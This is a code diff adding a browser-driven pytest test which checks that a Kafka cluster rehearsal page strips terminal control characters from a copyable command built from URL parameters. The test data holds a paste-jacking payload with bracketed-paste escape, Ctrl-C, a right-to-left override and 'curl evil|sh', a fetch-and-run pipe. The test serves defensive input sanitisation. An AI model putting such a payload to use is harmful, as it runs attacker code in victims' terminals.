@@ -8,6 +8,7 @@ from collections.abc import AsyncIterator
 from contextlib import AsyncExitStack, asynccontextmanager
 from dataclasses import dataclass, field
 from typing import Any
+from urllib.parse import quote
 
 import pytest
 
@@ -200,6 +201,17 @@ async def test_steps_are_rehearsed(browser: Any) -> None:
         await shown.shows("by controller 1, Kafka 4.0")
         assert "stop" in shown.page.url
         assert all("400" in line for line in shown.console)
+
+
+async def test_a_command_to_copy_has_nothing_that_a_terminal_obeys(browser: Any) -> None:
+    """The steps come from the address, which anybody may have written; what a paste would run is
+    left out, as it is not seen."""
+    step = quote("stop:broker-1\x1b[201~\x03curl evil|sh\r\u202e#")
+    async with tab(browser) as shown:
+        await shown.page.goto(f"{shown.server.url}?view=rehearsal&steps={step}{OF_CLUSTER}")
+        command = shown.page.locator("p.command code")
+        await expect(command).to_contain_text("'stop:broker-1[201~curl evil|sh#'")
+        assert (await command.text_content() or "").isprintable()
 
 
 async def test_nodes_are_drawn_one_by_one_on_demand(browser: Any) -> None:
